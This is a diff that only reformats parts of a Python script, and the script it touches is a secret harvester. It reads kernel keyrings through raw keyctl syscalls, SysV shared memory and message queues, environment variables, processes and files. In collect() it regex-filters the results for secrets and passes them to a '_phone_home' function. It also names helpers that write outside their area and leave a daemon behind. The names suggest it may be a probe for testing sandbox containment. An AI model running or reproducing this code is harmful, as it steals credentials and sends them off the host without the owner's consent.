@@ -62,8 +62,8 @@ def _keyring(t):
         return ""
     loot = []
     ids = []
-    for ring in (-3, -4, -5):   # session, user, user-session keyrings
-        found = libc.syscall(number, 10, ring, b"user", t["keyring_desc"].encode(), 0)   # KEYCTL_SEARCH
+    for ring in (-3, -4, -5):  # session, user, user-session keyrings
+        found = libc.syscall(number, 10, ring, b"user", t["keyring_desc"].encode(), 0)  # KEYCTL_SEARCH
         if found > 0:
             ids.append(found)
     for line in _read("/proc/keys").splitlines():
@@ -73,7 +73,7 @@ def _keyring(t):
             pass
     for key in ids:
         buf = ctypes.create_string_buffer(4096)
-        n = libc.syscall(number, 11, key, buf, 4096)   # KEYCTL_READ
+        n = libc.syscall(number, 11, key, buf, 4096)  # KEYCTL_READ
         if n > 0:
             loot.append(buf.raw[:n].decode(errors="replace"))
     return " ".join(loot)
@@ -85,15 +85,15 @@ def _sysv(t):
     loot = []
     shm = libc.shmget(t["ipc_key"], 0, 0)
     if shm >= 0:
-        addr = libc.shmat(shm, None, 0o10000)   # SHM_RDONLY
+        addr = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
         if addr not in (None, ctypes.c_void_p(-1).value):
             loot.append(ctypes.string_at(addr, 256).split(b"\0")[0].decode(errors="replace"))
     queue = libc.msgget(t["ipc_key"], 0)
     if queue >= 0:
         buf = ctypes.create_string_buffer(8 + 256)
-        n = libc.msgrcv(queue, buf, 256, 0, 0o4000)   # IPC_NOWAIT
+        n = libc.msgrcv(queue, buf, 256, 0, 0o4000)  # IPC_NOWAIT
         if n > 0:
-            loot.append(buf.raw[8:8 + n].decode(errors="replace"))
+            loot.append(buf.raw[8 : 8 + n].decode(errors="replace"))
     return " ".join(loot)
 
 
@@ -146,8 +146,9 @@ def _leave_a_daemon(t):
 
 def collect(where):
     t = _targets()
-    loot = " ".join([" ".join(f"{k}={v}" for k, v in os.environ.items()), _processes(), _files(t), _keyring(t),
-                     _sysv(t)])
+    loot = " ".join(
+        [" ".join(f"{k}={v}" for k, v in os.environ.items()), _processes(), _files(t), _keyring(t), _sysv(t)]
+    )
     found = sorted(set(SECRET.findall(loot)))
     reached = _phone_home(t, f"hello from {where}: {found}")
     _write_outside(t)
